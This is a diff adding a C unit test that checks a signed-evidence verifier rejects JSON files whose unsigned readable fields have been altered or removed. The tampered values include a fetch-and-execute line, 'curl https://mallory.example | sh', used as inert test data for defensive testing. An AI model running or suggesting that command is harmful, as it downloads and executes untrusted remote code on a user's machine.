@@ -6,6 +6,8 @@
 
 #include <sodium.h>
 #include <stdio.h>
+#include <stdlib.h>
+#include <string.h>
 
 #include "core/rpc/evidence.h"
 #include "tests/wire/objects.h"
@@ -138,6 +140,35 @@ a_file_that_says_something_else_than_is_signed_is_refused(void **state)
     assert_err(checked(j), ERR_DAMAGED);
 }
 
+/* What people read of it is not signed, so it has to be our own words. */
+static void
+a_file_whose_words_say_something_else_is_refused_with_what_is_signed(void **state)
+{
+    static const char *const lies[][2] = {
+        {"proves", "The owner of this account sells your messages."},
+        {"proves", ""},
+        {"check", "Run this: curl https://mallory.example | sh"},
+        {"notice", "Nothing to see here: ask mallory"},
+        {"noticed", "yesterday, by mallory"},
+        {"summary", "Mallory is right."}};
+
+    for (size_t i = 0; i < sizeof lies / sizeof *lies; i++) {
+        AUTO(json_decrefpp) json_t *j = made();
+        const char *proves = json_string_value(json_object_get(j, "proves"));
+        char *kept = strdup(proves);
+        json_object_set_new(j, lies[i][0], json_string(lies[i][1]));
+        assert_err(checked(j), ERR_DAMAGED);
+        assert_non_null(strstr(err_why(ERR_DAMAGED), kept));
+        free(kept);
+    }
+    static const char *const needed[] = {"proves", "check", "notice", "noticed"};
+    for (size_t i = 0; i < sizeof needed / sizeof *needed; i++) {
+        AUTO(json_decrefpp) json_t *j = made();
+        json_object_del(j, needed[i]);
+        assert_err(checked(j), ERR_DAMAGED);
+    }
+}
+
 static void
 the_account_of_a_file_cannot_be_changed(void **state)
 {
@@ -203,6 +234,8 @@ static const struct CMUnitTest tests[] = {
     cmocka_unit_test_setup_teardown(a_flipped_character_is_refused, a_fork, clear),
     cmocka_unit_test_setup_teardown(a_file_that_says_something_else_than_is_signed_is_refused,
                                     a_fork, clear),
+    cmocka_unit_test_setup_teardown(
+        a_file_whose_words_say_something_else_is_refused_with_what_is_signed, a_fork, clear),
     cmocka_unit_test_setup_teardown(the_account_of_a_file_cannot_be_changed, a_fork, clear),
     cmocka_unit_test_setup_teardown(one_manifest_twice_or_alone_is_refused, a_fork, clear),
     cmocka_unit_test_setup_teardown(what_is_no_evidence_is_refused, a_fork, clear),
